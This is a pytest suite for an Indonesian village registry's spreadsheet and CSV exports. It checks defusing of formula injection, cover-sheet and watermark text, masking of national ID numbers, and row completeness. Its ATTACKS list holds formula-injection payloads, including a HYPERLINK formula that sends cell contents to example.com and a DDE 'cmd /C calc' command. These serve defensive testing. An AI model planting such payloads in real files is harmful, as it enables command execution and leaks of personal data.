"""What stands in a file: exactly the people of the list, as text that no spreadsheet runs."""

import csv
import io
import zipfile

import pytest
from python_calamine import CalamineWorkbook

from desmigratif.core.spreadsheet import defuse
from desmigratif.reporting.enums import ExportFormat
from desmigratif.reporting.lists.base import CHUNK
from tests.conftest import BETAK
from tests.reporting.people import make, many, person
from tests.reporting.test_exports import PURPOSE, ask, fetch, run
from tests.workers.web_people import NIK_WOMAN, make_person

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?"&A1,"klik")',
    "@SUM(1+1)",
    "+6281234567890",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    "http://example.com",
    "007",
]


def book_of(content: bytes) -> CalamineWorkbook:
    return CalamineWorkbook.from_filelike(io.BytesIO(content))


def rows_of(content: bytes, sheet: str = "Daftar") -> list[list[str]]:
    return book_of(content).get_sheet_by_name(sheet).to_python()


def csv_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.fixture
def officer(petugas, actor_of):
    return actor_of(petugas)


def content_of(by, **asked) -> bytes:
    return fetch(run(ask(by, **asked)), by)[1]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_either_form_can_become_a_formula(officer, attack):
    make({"full_name": attack, "hamlet": attack, "nickname": attack})
    workbook = content_of(officer, purpose=f"{attack} untuk undangan")
    with zipfile.ZipFile(io.BytesIO(workbook)) as parts:
        sheets = [parts.read(name).decode() for name in parts.namelist() if "worksheets/" in name]
    assert not any("<f>" in sheet or "<f " in sheet or "hyperlink" in sheet for sheet in sheets)
    row = rows_of(workbook)[1]
    assert row[0].replace("_x000D_", "\r").replace("\n", "\r") == attack.replace("\n", "\r")
    assert all(isinstance(cell, str) for cell in row)
    for row in csv_of(content_of(officer, file_format=ExportFormat.CSV, purpose=f"{attack} untuk undangan")):
        assert not any(cell.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")) for cell in row)


def test_the_cover_says_what_it_is_for_whom_when_and_how_many(officer, system):
    make(*many(3), *many(2, sex="1"))
    export = run(ask(officer, filters={"sex": "2", "status": ""}))
    cover = dict(row[:2] for row in rows_of(fetch(export, officer)[1], "Keterangan") if row[0])
    assert cover["Saringan"] == "Jenis kelamin: Perempuan"
    assert cover["Diminta oleh"] == "Uji Petugas Desmigratif"
    assert cover["Keperluan"] == PURPOSE
    assert cover["Wilayah"].startswith("Desa Tunggangri, Kec. Kalidawir")
    assert cover["Dibuat"].endswith("WIB")
    assert cover["Jumlah baris"] == "3"
    assert cover["Nomor unduhan"] == str(export.pk)
    assert "UU 27/2022" in cover["Perhatian"]


def test_every_printed_page_and_the_properties_tell_who_took_it_and_for_what(officer, system):
    """However long the filter and the purpose are."""
    make(*many(2))
    export = run(ask(officer, purpose=PURPOSE + " dan seterusnya" * 15))
    with zipfile.ZipFile(io.BytesIO(fetch(export, officer)[1])) as parts:
        told = [parts.read(name).decode() for name in parts.namelist() if "worksheets/sheet" in name]
        told.append(parts.read("docProps/core.xml").decode())
    assert len(told) == 3
    for part in told:
        assert f"Unduhan {export.pk}, Uji Petugas Desmigratif" in part
        assert PURPOSE[:20] in part


def test_the_file_holds_exactly_the_people_of_the_list(officer, system):
    make(
        {"full_name": "Satu"},
        {"full_name": "Dua", "last_return_year": 2020},
        {"full_name": "Lain", "village_code": BETAK},
    )
    gone = person(full_name="Ditarik", record_status="ARSIP", withdrawn_at="2026-01-01T00:00:00Z")
    gone.save(force_insert=True)
    assert [row[0] for row in rows_of(content_of(officer))[1:]] == ["Dua", "Satu"]
    assert [row[0] for row in rows_of(content_of(officer, filters={"return_year": "2020"}))[1:]] == ["Dua"]


def test_no_whole_nik_is_in_any_file(officer, db):
    make_person(officer)
    workbook = content_of(officer)
    row = dict(zip(*rows_of(workbook)[:2], strict=True))
    assert row["NIK (disamarkan)"].startswith("350414")
    assert NIK_WOMAN not in str(rows_of(workbook))
    assert NIK_WOMAN[6:12] not in row["NIK (disamarkan)"]
    assert row["Nomor HP"] == "081234567810"
    assert NIK_WOMAN not in content_of(officer, file_format=ExportFormat.CSV).decode()


def test_the_national_list_goes_without_telephone_and_address(officer, penata, actor_of, system):
    make(*many(2, phone="+6281234567810", hamlet="Krajan"))
    header = rows_of(content_of(actor_of(penata)))[0]
    assert {"Nama lengkap", "Desa", "Status"} <= set(header)
    assert not {"Nomor HP", "Dusun", "RT", "RW", "Perlu bantuan"} & set(header)
    assert "Nomor HP" in rows_of(content_of(officer))[0]


def test_a_list_of_several_chunks_is_whole_and_without_doubles(officer, system, settings):
    settings.EXPORT_APPROVAL_ABOVE = 10_000
    make(*({"full_name": f"Orang {number}"} for number in range(CHUNK + 5)))
    names = [row[0] for row in rows_of(content_of(officer))[1:]]
    assert names == [f"Orang {number}" for number in reversed(range(CHUNK + 5))]


def test_csv_opens_in_spreadsheets_and_has_the_same_rows(officer, system):
    make({"full_name": 'Siti "Nur", S.Pd.'}, {"full_name": "Ñandú; 北京"})
    content = content_of(officer, file_format=ExportFormat.CSV)
    assert content.startswith(b"\xef\xbb\xbf")
    rows = csv_of(content)
    header = next(number for number, row in enumerate(rows) if row[:1] == ["Nama lengkap"])
    assert [row[0] for row in rows[header + 1 :]] == ["Ñandú; 北京", 'Siti "Nur", S.Pd.']
    assert {len(row) for row in rows[header:]} == {len(rows[header])}


def test_defusing_leaves_ordinary_words_alone():
    assert [defuse(text) for text in ("Siti", "081234", "", "a=b", "350414••••••••07")] == [
        "Siti",
        "081234",
        "",
        "a=b",
        "350414••••••••07",
    ]
